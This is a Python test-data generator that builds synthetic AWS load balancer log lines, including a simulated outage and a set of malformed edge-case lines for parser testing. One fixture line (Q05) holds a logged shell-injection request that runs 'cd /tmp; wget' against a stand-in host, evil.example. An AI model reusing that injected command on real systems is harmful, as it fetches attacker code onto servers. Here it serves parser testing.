"""Load balancer log lines of the dump's hour, and the historical and odd ones."""

from datetime import datetime, timedelta, timezone

from story import T0

BASE = datetime.fromtimestamp(T0, timezone.utc)
LB = "app/shop/50dc6c495c0c9188"
NODE = "10.0.0.9"
TG = "arn:aws:elasticloadbalancing:us-east-1:111122223333:targetgroup/shop-web/73e2d6bc24d8a067"
CERT = "arn:aws:acm:us-east-1:111122223333:certificate/12345678-1234-1234-1234-123456789012"
CERT2 = "arn:aws:acm:us-west-2:123456789012:certificate/2a108f19-aded-46b0-8493-c63eb1ef4a99"
AGENTS = ["curl/8.5.0", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36", "Mozilla/5.0 (iPhone; CPU iPhone OS 19_1 like Mac OS X)"]
PATHS = ["/", "/cart?id=7", "/checkout", "/static/app.js", "/api/items?page=2&size=50", "/login"]


def iso(seconds, digits=6):
    """Clock time of T0 + seconds with six fractional digits and Z."""
    return (BASE + timedelta(seconds=seconds)).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def alb_line(rng, seconds, fields=34):
    """One access log line; web-2 (10.0.1.21) answers 502 or not at all between 10:35 and 10:45."""
    target = f"10.0.1.{rng.choice([20, 21])}:8080"
    client = f"2001:db8:c:{rng.randint(0, 3)}::7" if rng.random() < 0.08 else f"198.51.100.{rng.randint(10, 59)}"
    status, tstatus, times = "200", "200", f"0.{rng.randint(0, 3):03d} 0.{rng.randint(2, 400):03d} 0.000"
    if target.startswith("10.0.1.21:") and 2100 <= seconds < 2700:
        status, tstatus, times = ("504", "-", "0.001 -1 -1") if rng.random() < 0.4 else ("502", "-", "0.000 0.004 -1")
    elif rng.random() < 0.06:
        status = tstatus = rng.choice(["404", "302", "500"])
    cipher = rng.choice(["TLS_AES_128_GCM_SHA256 TLSv1.3", "ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2"])
    kind = rng.choice(["https", "h2", "h2"])
    trace = f"Root=1-{T0 + int(seconds):08x}-{rng.getrandbits(96):024x}"
    f = [
        kind, iso(seconds), LB, f"{client}:{rng.randint(1024, 65535)}", target, *times.split(), status, tstatus,
        str(rng.randint(40, 900)), str(rng.randint(200, 60000)),
        f'"{rng.choice(["GET", "GET", "POST"])} https://shop.example.com:443{rng.choice(PATHS)} HTTP/{"2.0" if kind == "h2" else "1.1"}"',
        f'"{rng.choice(AGENTS)}"', *cipher.split(), TG, f'"{trace}"', '"shop.example.com"', f'"{rng.choice([CERT, "session-reused"])}"',
        str(rng.choice([0, 1, 10])), iso(seconds - 0.25), '"waf,forward"', '"-"', '"-"', f'"{target}"', f'"{tstatus}"', '"-"', '"-"',
        f"TID_{rng.getrandbits(128):032x}", '"-"', '"-"', '"-"', NODE,
    ]
    return " ".join(f[:fields])


def alb_odd():
    """Lines that broke other parsers (identifiers of the format specification in comments)."""
    head = f"app/shop/50dc6c495c0c9188"
    tail = '"-" "-" TID_{:032x}'
    t = lambda n: iso(3300 + n)
    rest = lambda n, lists: f'"-" "-" {lists} "-" "-" TID_{n:032x} "-" "-" "-" {NODE}'
    return [
        # Q01: more fields than known
        f'https {t(0)} {head} 198.51.100.39:2817 10.0.1.20:8080 0.000 0.010 0.000 200 200 34 366 "GET https://shop.example.com:443/ HTTP/1.1" "curl/8.5.0" TLS_AES_128_GCM_SHA256 TLSv1.3 {TG} "Root=1-58337281-1d84f3d73c47ec4e58577259" "shop.example.com" "{CERT}" 1 {t(-1)} "forward" {rest(1, chr(34) + "10.0.1.20:8080" + chr(34) + " " + chr(34) + "200" + chr(34))} "-" new_field "two words"',
        # Q05: raw space in the URL, again in redirect_url
        f'http {t(1)} {head} 203.0.113.20:41542 - -1 -1 -1 301 - 233 390 "GET http://192.0.2.10:80/shell?cd+/tmp;wget+ evil.example/x HTTP/1.1" "Hello, world" - - - "Root=1-627cac19-4c6df30820daa80e3fd72ced" "-" "-" 0 {t(1)} "redirect" "https://192.0.2.10:443/shell?cd+/tmp;wget+ evil.example/x" "-" "-" "-" "Acceptable" "SpaceInUri" TID_16132ed0b4112148 "-" "-" "-" {NODE}',
        # Q06 and Q07: nothing parseable in the request
        f'http {t(2)} {head} 203.0.113.90:15070 - -1 -1 -1 400 - 0 272 "- http://shop-1.us-east-1.elb.amazonaws.com:80- -" "-" - - - "-" "-" "-" - {t(2)} "-" "-" "-" "-" "-" "-" "-" TID_dc57cebed65b444ebc8177bb698fe166',
        f'http {t(3)} {head} 203.0.113.91:57273 - -1 -1 -1 200 - 0 272 "- http://shop-1.us-east-1.elb.amazonaws.com:80-/ " "-" - - - "-" "-" "-" - {t(3)} "-" "-" "-" "-" "-" "-" "-" TID_00000000000000000000000000000000',
        # Q08: quotes written as \x22, and Q09: IPv6 without brackets
        f'h2 {t(4)} {head} 2001:db8::7:50718 10.0.1.20:8080 0.001 0.005 0.000 400 400 66 49 "GET https://shop.example.com:443/q?bar=\\x22 HTTP/2.0" "agent \\x22x\\x22 1.0" TLS_AES_128_GCM_SHA256 TLSv1.3 {TG} "Root=1-63e1aa26-3bbc289b52c6671f5d00f7b4" "shop.example.com" "session-reused" 10160 {t(4)} "waf,forward" {rest(5, chr(34) + "10.0.1.20:8080" + chr(34) + " " + chr(34) + "400" + chr(34))}',
        # Q13: lists without quotes, Q14: two spaces between fields
        f'https {t(5)} {head} 198.51.100.39:2818  10.0.1.21:8080 0.000 0.002  0.000 200 200 34 366 "GET https://shop.example.com:443/ HTTP/1.1" "curl/8.5.0" TLS_AES_128_GCM_SHA256 TLSv1.3 {TG} "Root=1-58337282-1d84f3d73c47ec4e58577259" "shop.example.com" "session-reused" 1 {t(5)} "forward" "-" "-" 10.0.1.21:8080 200 "-" "-"',
        # Q36: plain HTTP on an HTTPS listener
        f'https {t(6)} {head} 198.51.100.40:3000 - -1 -1 -1 400 - 0 220 "GET http://shop.example.com:443/ HTTP/1.1" "curl/8.5.0" - - - "-" "-" "-" - {t(6)} "-" {rest(7, chr(34) + "-" + chr(34) + " " + chr(34) + "-" + chr(34))}',
        # Q37: trace header with more than Root=
        f'https {t(7)} {head} 198.51.100.41:3001 10.0.1.20:8080 0.000 0.002 0.000 200 200 34 366 "GET https://shop.example.com:443/ HTTP/1.1" "curl/8.5.0" TLS_AES_128_GCM_SHA256 TLSv1.3 {TG} "Self=1-58337283-aa;Root=1-58337281-1d84f3d73c47ec4e58577259;app=web, with spaces" "shop.example.com" "session-reused" 1 {t(7)} "forward" {rest(8, chr(34) + "10.0.1.20:8080" + chr(34) + " " + chr(34) + "200" + chr(34))}',
        # Q42: Lambda target
        f'http {t(8)} {head} 198.51.100.39:2817 - 0.000 0.001 0.000 502 - 34 366 "GET http://shop.example.com:80/fn HTTP/1.1" "curl/8.5.0" - - arn:aws:elasticloadbalancing:us-east-1:111122223333:targetgroup/fn/73e2d6bc24d8a067 "Root=1-58337364-23a8c76965a2ef7629b185e3" "-" "-" 0 {t(8)} "forward" "-" "LambdaInvalidResponse" "-" "-" "-" "-" TID_1234abcd5678ef90',
        # Q47: a WebSocket that was opened the day before; an unknown type is still an access log line
        f'wss {t(9)} {head} 198.51.100.42:3002 10.0.1.20:8080 0.000 0.002 0.000 101 101 9000 120000 "GET https://shop.example.com:443/live HTTP/1.1" "ws/1" TLS_AES_128_GCM_SHA256 TLSv1.3 {TG} "Root=1-58337290-1d84f3d73c47ec4e58577259" "shop.example.com" "session-reused" 1 2026-01-14T22:10:01.000000Z "forward" {rest(10, chr(34) + "10.0.1.20:8080" + chr(34) + " " + chr(34) + "101" + chr(34))}',
        f'h3 {t(10)} {head} 198.51.100.43:3003 10.0.1.20:8080 0.000 0.002 0.000 200 200 90 1200 "GET https://shop.example.com:443/ HTTP/3.0" "curl/9" TLS_AES_128_GCM_SHA256 TLSv1.3 {TG} "Root=1-58337291-1d84f3d73c47ec4e58577259" "shop.example.com" "session-reused" 1 {t(10)} "forward" {rest(11, chr(34) + "10.0.1.20:8080" + chr(34) + " " + chr(34) + "200" + chr(34))}',
    ]


def alb_placeholder():
    """Q02: undocumented placeholders where later eras have fields: a bare 0 after field 20, two dashes after field 27."""
    a = f'https 2018-03-02T09:00:00.100000Z {LB} 198.51.100.39:2817 10.0.1.20:8080 0.000 0.010 0.000 200 200 34 366 "GET https://shop.example.com:443/ HTTP/1.1" "curl/7.58.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 {TG} "Root=1-58337281-1d84f3d73c47ec4e58577259" "shop.example.com" "{CERT}"'
    return [a + " 0", a + ' 0 2018-03-02T09:00:00.000000Z "forward" "-" "-" "10.0.1.20:8080" "200" "-" "-"']


def conn_line(rng, seconds, fields):
    ok = rng.random() > 0.15
    f = [
        iso(seconds), f"198.51.100.{rng.randint(10, 59)}", str(rng.randint(1024, 65535)), "443", "TLSv1.2", "ECDHE-RSA-AES128-GCM-SHA256",
        f"0.{rng.randint(3, 90):03d}" if ok else "-", '"CN=client.example.com,O=End Entity,L=Seattle,ST=Washington,C=US"',
        "NotBefore=2025-09-21T22:43:21Z;NotAfter=2028-06-17T22:43:21Z", f"{rng.getrandbits(64):016X}",
        "Success" if ok else "Failed:ClientCertUntrusted", f"TID_{rng.getrandbits(128):032x}", "X25519MLKEM768", LB, NODE,
    ]
    return " ".join(f[:fields])


def conn_plain(fields):
    """Q21: a connection to an HTTP listener, without any TLS value."""
    return " ".join([iso(1), "10.0.0.26", "58206", "80", "-", "-", "-", '"-"', "-", "-", "-", "TID_16132ed0b4112148"][:fields])


def health(seconds, target, ok, fields):
    f = ["http", iso(seconds), "0.019584011" if ok else "5.001980746", target, "shop-web", "PASS" if ok else "FAIL",
         "200" if ok else "502", "-" if ok else "TargetError", LB, NODE]
    return " ".join(f[:fields])


def health_lambda():
    return f"lambda {iso(6)} 0.104000000 arn:aws:lambda:us-east-1:111122223333:function:probe shop-fn PASS 200 - {LB} {NODE}"


def clb_lines(rng, n, start):
    return [
        f'{iso(start + 3 * k)} legacy-shop 198.51.100.{rng.randint(10, 59)}:{rng.randint(1024, 65535)} 10.8.0.{rng.randint(4, 6)}:80 0.0000{rng.randint(20, 99)} '
        f'0.00{rng.randint(1000, 9999)} 0.0000{rng.randint(20, 99)} 200 200 0 {rng.randint(20, 9000)} "GET http://old.example.com:80{rng.choice(PATHS)} HTTP/1.1" "{rng.choice(AGENTS)}" - -'
        for k in range(n)
    ]


def clb_odd():
    """Q04, Q09 to Q12: IPv6, TCP listener, 504, 408, no HTTP version."""
    return [
        f'{iso(3000)} legacy-shop 2001:db8:4002:5883:b5f3:aaaa:bbbb:64ec:53016 10.8.0.4:80 0.00008 0.006129 0.000037 200 200 0 57 "GET https://old.example.com:443/a?b=c HTTP/1.1" "Mozilla/5.0 (X11; Linux x86_64)" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2',
        f'{iso(3001)} legacy-shop 198.51.100.39:2818 10.8.0.4:80 0.001069 0.000028 0.000041 - - 82 305 "- - - " "-" - -',
        f'{iso(3002)} legacy-shop 203.0.113.1:63484 - -1 -1 -1 504 0 0 0 "GET https://old.example.com:443/slow" "curl/8.5.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2',
        f'{iso(3003)} legacy-shop 203.0.113.2:63485 - -1 -1 -1 408 - 5242880 0 "POST http://old.example.com:80/upload HTTP/1.1" "-" - -',
        f'{iso(3004)} legacy-shop 198.51.100.39:2817 10.8.0.5:80 8e-05 0.001048 0.000057 200 200 0 29 "GET http://old.example.com:80/ HTTP/1.1"',
    ]


def nlb_line(seconds, client, port, extra="", odd=0, arn=CERT2):
    end, begin = iso(seconds)[:19], iso(seconds - 10)[:19]
    head = f"tls 2.0 {end} net/gate/c6e77e28c25b2234 g3d4b5e8bb8464cd {client}:{port}"
    if odd == 16:  # Q16: gave up before the hello
        return f"{head} 10.8.1.10:443 0 - 0 0 - - - - - - - - - - {end}"
    if odd == 9:
        return f"{head} 2001:db8:1a:138:7c01:63c:b510:129f:443 35040 48 2150 1726 - {arn} - TLS_AES_128_GCM_SHA256 tlsv13 x25519 gate.example.com - - - {begin}{extra}"
    alpn = 'h2 h2 "h2","http/1.1"' if odd != 17 else '- - "h2","http/1.1","x%20y'
    return f"{head} 10.8.1.10:443 10000 2 98 {246 + port % 977} - {arn} - ECDHE-RSA-AES128-SHA tlsv12 - gate.example.com {alpn} {begin}{extra}"
